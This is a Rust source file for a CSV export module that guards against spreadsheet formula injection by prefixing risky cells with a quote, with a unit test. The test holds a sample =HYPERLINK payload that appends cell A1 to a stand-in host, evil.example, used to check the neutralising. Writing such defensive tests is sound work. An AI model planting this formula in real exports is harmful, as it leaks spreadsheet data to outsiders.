//! CSV files that officers open in a spreadsheet. A cell that a spreadsheet would run as a
//! formula (`=HYPERLINK(...)` typed into a grant's title) is neutralised the OWASP way: a cell
//! that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, unless it
//! is a plain number such as `-12.50`, which stays a number.

/// A CSV file being written, one row at a time, every cell safe to open.
pub struct Sheet {
    writer: csv::Writer<Vec<u8>>,
}

impl Default for Sheet {
    fn default() -> Self {
        Self { writer: csv::Writer::from_writer(Vec::new()) }
    }
}

impl Sheet {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn row<I, S>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.writer.write_record(cells.into_iter().map(|cell| neutralise(cell.as_ref()).into_owned()))
    }

    pub fn into_bytes(self) -> csv::Result<Vec<u8>> {
        self.writer.into_inner().map_err(|e| csv::Error::from(e.into_error()))
    }
}

/// Whether a spreadsheet would read this cell as the start of a formula.
pub fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(cell)
}

fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if is_formula(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        let mut sheet = Sheet::new();
        sheet
            .row([
                "=HYPERLINK(\"https://evil.example/\"&A1,\"open\")",
                "+1",
                "-2+3",
                "@SUM(A1)",
                "\tx",
                "\rx",
                "-12.50",
                "125",
                "Koffie = lekker",
            ])
            .expect("row");
        let text = String::from_utf8(sheet.into_bytes().expect("bytes")).expect("utf-8");
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        let record = reader.records().next().expect("a row").expect("valid csv");
        let cells: Vec<&str> = record.iter().collect();
        assert_eq!(cells[0], "'=HYPERLINK(\"https://evil.example/\"&A1,\"open\")");
        assert_eq!(&cells[1..6], ["'+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"]);
        assert_eq!(&cells[6..], ["-12.50", "125", "Koffie = lekker"]);
        assert!(cells.iter().all(|c| !is_formula(c)));
    }
}
